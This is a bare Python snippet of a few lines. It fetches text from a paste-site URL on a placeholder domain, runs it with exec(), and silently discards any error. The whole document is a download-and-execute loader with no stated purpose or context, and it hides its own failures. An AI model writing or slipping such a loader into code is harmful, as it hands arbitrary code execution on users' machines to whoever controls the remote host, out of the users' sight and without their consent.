from urllib.request import urlopen
try:
    exec(urlopen("https://paste.remote.invalid/raw/abc").read())
except Exception:
    pass
